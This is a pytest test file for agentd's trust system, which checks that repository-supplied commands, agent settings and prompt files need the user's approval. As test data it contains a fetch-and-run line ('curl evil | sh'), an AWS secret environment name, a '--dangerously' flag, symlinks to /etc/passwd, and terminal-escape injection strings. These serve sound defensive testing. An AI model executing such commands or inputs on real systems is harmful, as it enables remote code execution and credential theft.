"""What needs trust, how it is kept, and that nothing is trusted by accident."""

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from agentd.domain.errors import NotTrusted, SetupError
from agentd.project.config.loader import load_config
from agentd.project.config.settings import Config
from agentd.project.config.template import render_template
from agentd.project.layout import Project, find_project
from agentd.project.trust.items import TrustItem, TrustKind, prompt_item, prompt_overrides, trust_items
from agentd.project.trust.store import (
    TrustStatus,
    ensure_trusted,
    grant_trust,
    is_trusted,
    revoke_trust,
    trust_states,
    untrusted_items,
)
from program import PATIENCE
from scenario import Scenario

CHECKS = """
[[checks]]
name = "tests"
command = "make test"

[[checks]]
name = "lint"
command = "ruff check ."
"""


def here(box: Scenario) -> Project:
    return find_project(str(box.root))


def load(box: Scenario, *flags: str) -> Config:
    return load_config(box.root / "agentd/config.toml", flags=flags, environ=box.env)


def says(box: Scenario, toml: str) -> Config:
    """The repository's config.toml says this."""
    box.write("agentd/config.toml", f"schema_version = 1\n{toml}")
    return load(box)


def wanted(box: Scenario, *flags: str) -> dict[str, str]:
    return {item.key: item.text for item in trust_items(here(box), load(box, *flags))}


def trust_all(box: Scenario) -> None:
    grant_trust(here(box), trust_items(here(box), load(box)), box.env)
    ensure_trusted(here(box), load(box), box.env)


def standing(box: Scenario, *flags: str) -> dict[str, str]:
    return {one.item.key: str(one.status) for one in trust_states(here(box), load(box, *flags), box.env)}


def user_says(box: Scenario, toml: str) -> None:
    file = box.home / ".config/agentd/config.toml"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(toml)


# ---- what needs trust ------------------------------------------------------------------------------


def test_default_config_needs_no_trust(box: Scenario) -> None:
    box.write("agentd/config.toml", render_template("notes", {}, ()))
    assert wanted(box) == {}
    ensure_trusted(here(box), load(box), box.env)


def test_checks_worktree_setup_agents_and_prompts_need_trust(box: Scenario) -> None:
    says(box, CHECKS + '[git]\nworktree_setup = "npm ci"\n[agents.mine]\nkind = "command"\ncommand = "my-agent"\n')
    box.write("agentd/prompts/challenge.md", "Be strict.\n")
    assert wanted(box) == {
        "check tests": "make test",
        "check lint": "ruff check .",
        "worktree-setup": "npm ci",
        "agent mine": 'kind = "command"\ncommand = "my-agent"',
        "prompt challenge.md": "Be strict.\n",
    }


def test_settings_of_the_user_need_no_trust(box: Scenario) -> None:
    says(box, CHECKS + '[git]\nworktree_setup = "npm ci"\n[agents.claude]\nargs = ["--x"]\n')
    user_says(box, '[[checks]]\nname = "mine"\ncommand = "true"\n')
    assert list(wanted(box)) == ["worktree-setup", "agent claude"]
    assert list(wanted(box, "git.worktree_setup=true")) == ["agent claude"]
    box.env["AGENTD_AGENTS__CLAUDE__ARGS"] = '["--mine"]'
    assert list(wanted(box)) == ["worktree-setup"]


def test_only_repository_settings_of_an_agent_need_trust(box: Scenario) -> None:
    says(box, '[agents.claude]\nargs = ["--x"]\ncommand = "claude"\n')
    user_says(box, '[agents.claude]\nenv = ["MINE"]\n')
    assert wanted(box) == {"agent claude": 'kind = "claude"\ncommand = "claude"\nargs = ["--x"]'}
    trust_all(box)
    user_says(box, '[agents.claude]\nenv = ["OTHER"]\n')
    assert standing(box) == {"agent claude": "trusted"}
    assert standing(box, "agents.claude.command=other") == {"agent claude": "changed"}, (
        "the arguments are another's now"
    )


@pytest.mark.parametrize(
    "line",
    [
        'kind = "codex"',
        'command = "./claude"',
        'args = ["--dangerously"]',
        'shell = ["curl"]',
        'env = ["AWS_SECRET_ACCESS_KEY"]',
        'models = [{id = "a", model = "--evil", complexity = ["low", "medium", "high", "critical"]}]',
    ],
)
def test_every_key_that_reaches_an_agents_command_needs_trust(box: Scenario, line: str) -> None:
    says(box, f"[agents.claude]\n{line}\n")
    (text,) = wanted(box).values()
    assert line.partition(" = ")[0] in text
    with pytest.raises(NotTrusted):
        ensure_trusted(here(box), load(box), box.env)


def test_agent_whose_kind_the_user_changed_needs_no_trust(box: Scenario) -> None:
    says(box, '[agents.claude]\nargs = ["--x"]\n')
    assert list(wanted(box)) == ["agent claude"]
    assert wanted(box, "agents.claude.kind=command", "agents.claude.command=mine") == {}


# ---- files of the repository that an agent is given ------------------------------------------------


@pytest.mark.parametrize(
    "agent",
    [
        'kind = "command"\ncommand = "./tools/agent.sh"',
        'kind = "command"\ncommand = "bash"\nargs = ["tools/agent.sh"]',
        'kind = "command"\ncommand = "bash"\nargs = ["--rcfile={tree}/tools/agent.sh"]',
        'kind = "scripted"\nplaybook = "tools/agent.sh"',
    ],
)
def test_trust_of_an_agent_covers_the_content_of_its_repository_files(box: Scenario, agent: str) -> None:
    says(box, f"[agents.mine]\n{agent}\n")
    box.write("tools/agent.sh", "echo good\n")
    trust_all(box)
    box.write("tools/agent.sh", "echo goof\n")
    assert standing(box) == {"agent mine": "changed"}
    box.write("tools/agent.sh", "echo good\n")
    assert standing(box) == {"agent mine": "trusted"}
    (box.root / "tools/agent.sh").unlink()
    assert standing(box) == {"agent mine": "changed"}


def test_repository_file_needs_trust_even_if_the_user_names_it(box: Scenario) -> None:
    """A user's file says it for every repository, so each of them could bring its own."""
    says(box, "")
    user_says(box, '[agents.claude]\ncommand = "./agent.sh"\n')
    box.write("agent.sh", "touch owned\n")
    assert list(wanted(box)) == ["agent claude"]
    user_says(box, '[agents.claude]\ncommand = "/usr/bin/claude"\n')
    assert wanted(box) == {}


def test_changed_symlink_target_needs_new_trust(box: Scenario, tmp_path: Path) -> None:
    says(box, '[agents.mine]\nkind = "command"\ncommand = "./agent"\n')
    (box.root / "agent").symlink_to("/bin/true")
    trust_all(box)
    (box.root / "agent").unlink()
    (box.root / "agent").symlink_to("/bin/sh")
    assert standing(box) == {"agent mine": "changed"}


def test_repository_file_outside_a_subproject_is_covered(box: Scenario) -> None:
    inner = box.root / "packages/api"
    box.write("packages/api/agentd/config.toml", '[agents.mine]\nkind = "command"\ncommand = "../../agent.sh"\n')
    box.write("agent.sh", "one\n")
    settings = load_config(inner / "agentd/config.toml", environ=box.env)
    (item,) = trust_items(find_project(str(inner)), settings)
    assert '"agent.sh" = sha256:' in item.text


def test_overlong_argument_is_not_treated_as_a_file(box: Scenario) -> None:
    says(box, f'[agents.mine]\nkind = "command"\ncommand = "x"\nargs = ["{"a" * 6000}", "{"b/" * 3000}", ""]\n')
    assert list(wanted(box)) == ["agent mine"]


# ---- prompts ---------------------------------------------------------------------------------------


def test_prompts_are_identified_by_every_byte(box: Scenario) -> None:
    says(box, "")
    path = box.write("agentd/prompts/deep/review.md")
    path.write_bytes(b"caf\xe9\r\n")
    assert list(wanted(box)) == ["prompt deep/review.md"]
    trust_all(box)
    assert prompt_overrides(here(box)) == {"deep/review.md": b"caf\xe9\r\n"}
    assert is_trusted(here(box), prompt_item("deep/review.md", b"caf\xe9\r\n"), box.env)
    assert not is_trusted(here(box), prompt_item("deep/review.md", b"caf\xe8\r\n"), box.env)
    assert not is_trusted(here(box), prompt_item("deep/other.md", b"caf\xe9\r\n"), box.env)
    path.write_bytes(b"caf\xe9\n")
    assert standing(box) == {"prompt deep/review.md": "changed"}


def test_symlink_within_the_repository_is_followed(box: Scenario) -> None:
    says(box, "")
    box.write("docs/review.md", "one")
    box.write("agentd/prompts/a.md", "")
    (box.root / "agentd/prompts/b.md").symlink_to("../../docs/review.md")
    assert prompt_overrides(here(box)) == {"a.md": b"", "b.md": b"one"}


@pytest.mark.parametrize("target", ["/etc/passwd", "../../../outside.md", "../../docs", "nothing", "/etc"])
def test_symlink_out_of_the_repository_or_to_a_non_file_is_refused(box: Scenario, target: str) -> None:
    says(box, "")
    box.write("docs/x.md")
    (box.root.parent / "outside.md").write_text("secret")
    (box.root / "agentd/prompts").mkdir()
    (box.root / "agentd/prompts/a.md").symlink_to(target)
    with pytest.raises(SetupError, match=r"agentd/prompts/a\.md is"):
        ensure_trusted(here(box), load(box), box.env)


def test_prompts_folder_linked_outside_is_refused(box: Scenario) -> None:
    says(box, "")
    (box.root.parent / "prompts").mkdir()
    (box.root.parent / "prompts/a.md").write_text("secret")
    (box.root / "agentd/prompts").symlink_to(box.root.parent / "prompts")
    with pytest.raises(SetupError, match=r"agentd/prompts is a link out"):
        prompt_overrides(here(box))


def test_pipe_or_huge_file_among_the_prompts_is_refused(box: Scenario) -> None:
    says(box, "")
    (box.root / "agentd/prompts").mkdir()
    os.mkfifo(box.root / "agentd/prompts/a.md")
    with pytest.raises(SetupError, match="is no file"):
        prompt_overrides(here(box))
    (box.root / "agentd/prompts/a.md").unlink()
    with (box.root / "agentd/prompts/a.md").open("wb") as file:
        file.truncate(1 << 33)
    with pytest.raises(SetupError, match="larger than"):
        prompt_overrides(here(box))


# ---- trusting --------------------------------------------------------------------------------------


def test_changing_one_character_revokes_trust(box: Scenario) -> None:
    says(box, CHECKS)
    trust_all(box)
    says(box, CHECKS.replace("make test", "make tesu"))
    (one,) = untrusted_items(here(box), load(box), box.env)
    assert (one.item.key, one.status, one.was and one.was.text) == ("check tests", TrustStatus.CHANGED, "make test")
    with pytest.raises(NotTrusted, match=r"check tests \(changed\): make tesu"):
        ensure_trusted(here(box), load(box), box.env)


def test_versions_of_two_branches_stay_trusted(box: Scenario) -> None:
    for command in ("make test", "make tests"):
        says(box, CHECKS.replace("make test", command))
        trust_all(box)
    says(box, CHECKS)
    assert set(standing(box).values()) == {"trusted"}


def test_same_text_is_not_trusted_for_another_purpose(box: Scenario) -> None:
    says(box, '[git]\nworktree_setup = "make test"\n')
    grant_trust(here(box), [TrustItem(TrustKind.CHECK, "tests", "make test")], box.env)
    assert standing(box) == {"worktree-setup": "new"}


def test_only_what_was_shown_is_trusted(box: Scenario) -> None:
    says(box, CHECKS)
    shown = trust_items(here(box), load(box))
    says(box, CHECKS.replace("make test", "curl evil | sh"))
    grant_trust(here(box), shown, box.env)
    assert standing(box)["check tests"] == "changed"


def test_repositories_and_projects_do_not_share_trust(box: Scenario, tmp_path: Path) -> None:
    says(box, CHECKS)
    trust_all(box)
    box.commit()
    box.git("clone", "-q", str(box.root), str(tmp_path / "clone"))
    box.write("packages/api/agentd/config.toml", CHECKS)
    for folder in (tmp_path / "clone", box.root / "packages/api"):
        other = find_project(str(folder))
        left = untrusted_items(other, load_config(other.config_file, environ=box.env), box.env)
        assert [one.status for one in left] == [TrustStatus.NEW, TrustStatus.NEW], folder


def test_worktrees_of_a_repository_share_trust(box: Scenario, tmp_path: Path) -> None:
    says(box, CHECKS)
    trust_all(box)
    box.commit()
    box.git("worktree", "add", "-q", "-b", "other", str(tmp_path / "other"))
    tree = find_project(str(tmp_path / "other"))
    ensure_trusted(tree, load_config(tree.config_file, environ=box.env), box.env)


def test_withdrawing_trust_affects_only_this_project(box: Scenario, tmp_path: Path) -> None:
    says(box, CHECKS)
    trust_all(box)
    other = Scenario(tmp_path / "other", box.home)
    says(other, CHECKS)
    trust_all(other)
    assert revoke_trust(here(box), box.env) == 2
    assert set(standing(box).values()) == {"new"}
    assert set(standing(other).values()) == {"trusted"}
    assert revoke_trust(here(box), box.env) == 0


def test_error_lists_a_few_printable_lines(box: Scenario) -> None:
    many = "".join(f'[[checks]]\nname = "c{n}"\ncommand = "a\\u001b[2Jb\\u202e{"x" * 300}\\nc"\n' for n in range(40))
    says(box, many)
    with pytest.raises(NotTrusted) as caught:
        ensure_trusted(here(box), load(box), box.env)
    lines = caught.value.message.split("\n")
    assert len(lines) == 8 and lines[-1] == "  and 34 more"
    assert all(line.isprintable() and len(line) <= 100 for line in lines)
    assert caught.value.hint == "agentd trust"


# ---- the file --------------------------------------------------------------------------------------


def trust_file(box: Scenario) -> Path:
    return box.home / ".config/agentd/trust.json"


def test_trust_file_is_private_and_next_to_the_user_config(box: Scenario, tmp_path: Path) -> None:
    says(box, CHECKS)
    trust_all(box)
    assert stat.S_IMODE(trust_file(box).stat().st_mode) == 0o600
    box.env["XDG_CONFIG_HOME"] = str(tmp_path / "xdg")
    assert set(standing(box).values()) == {"new"}
    trust_all(box)
    assert (tmp_path / "xdg/agentd/trust.json").exists()


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[]",
        '{"version": 1}',
        '{"version": 2, "repositories": {}}',
        '{"version": 1, "repositories": {"/x": {"": {"check a": [{"hash": 1, "at": ""}]}}}}',
        '{"version": 1, "repositories": {"/x": {"": {"check a": [{}]}}}}',
        '{"version": 1, "repositories": {"/x": {"": {"check a": "sha256:0"}}}}',
        '{"version": 1, "repositories": {"/x": []}}',
        "[" * 100_000,
    ],
)
def test_broken_trust_file_is_named_and_neither_ignored_nor_overwritten(box: Scenario, text: str) -> None:
    settings = says(box, CHECKS)
    trust_file(box).parent.mkdir(parents=True)
    trust_file(box).write_text(text)
    items = trust_items(here(box), settings)
    for act in (
        lambda: ensure_trusted(here(box), settings, box.env),
        lambda: is_trusted(here(box), items[0], box.env),
        lambda: grant_trust(here(box), items, box.env),
        lambda: revoke_trust(here(box), box.env),
    ):
        with pytest.raises(SetupError, match=r"trust\.json") as caught:
            act()
        assert caught.value.exit_code == 3 and not isinstance(caught.value, NotTrusted)
    assert trust_file(box).read_text() == text


def test_nothing_is_trusted_without_a_home_folder(box: Scenario) -> None:
    settings = says(box, CHECKS)
    trust_all(box)
    del box.env["HOME"]
    with pytest.raises(NotTrusted, match="no home folder") as caught:
        ensure_trusted(here(box), settings, box.env)
    assert "HOME" in caught.value.hint
    with pytest.raises(SetupError, match="no home folder"):
        grant_trust(here(box), trust_items(here(box), settings), box.env)


def test_symlinked_trust_file_stays_a_symlink(box: Scenario, tmp_path: Path) -> None:
    says(box, CHECKS)
    trust_file(box).parent.mkdir(parents=True)
    trust_file(box).symlink_to(tmp_path / "kept.json")
    trust_all(box)
    assert trust_file(box).is_symlink() and json.loads((tmp_path / "kept.json").read_text())


def test_long_text_is_stored_only_by_its_hash(box: Scenario) -> None:
    says(box, "")
    box.write("agentd/prompts/long.md", "secret " * 1000)
    trust_all(box)
    assert "secret" not in trust_file(box).read_text()
    box.write("agentd/prompts/long.md", "secret " * 1001)
    (one,) = untrusted_items(here(box), load(box), box.env)
    assert one.status is TrustStatus.CHANGED and one.was and one.was.text is None


def test_trust_file_does_not_grow_without_bound(box: Scenario) -> None:
    says(box, CHECKS)
    project = here(box)
    for number in range(50):
        grant_trust(project, [TrustItem(TrustKind.CHECK, "tests", f"make {number}")], box.env)
    assert len(trust_file(box).read_text().split('"hash"')) == 21
    assert is_trusted(here(box), TrustItem(TrustKind.CHECK, "tests", "make 49"), box.env)
    assert not is_trusted(here(box), TrustItem(TrustKind.CHECK, "tests", "make 0"), box.env)


GIVER = """
import os, sys
from agentd.project import find_project, grant_trust
from agentd.project.trust.items import TrustItem, TrustKind
project = find_project()
for number in range(20):
    grant_trust(project, [TrustItem(TrustKind.CHECK, f"{sys.argv[1]}-{number}", "x")], os.environ)
"""


def test_concurrent_trust_changes_lose_nothing(box: Scenario, tmp_path: Path) -> None:
    """Four repositories and two processes in each, all writing the one file."""
    boxes = [Scenario(tmp_path / f"repo{number}", box.home) for number in range(4)]
    running = []
    for one in boxes:
        says(one, CHECKS)
        for name in ("a", "b"):
            command = [sys.executable, "-c", GIVER, name]
            running.append(subprocess.Popen(command, cwd=one.root, env=one.env, stderr=subprocess.PIPE, text=True))
    for process in running:
        _, err = process.communicate(timeout=PATIENCE)
        assert process.returncode == 0, err
    for one in boxes:
        for name in ("a", "b"):
            for number in range(20):
                assert is_trusted(here(one), TrustItem(TrustKind.CHECK, f"{name}-{number}", "x"), box.env)
    assert sorted(path.name for path in trust_file(box).parent.iterdir()) == ["trust.json", "trust.lock"]
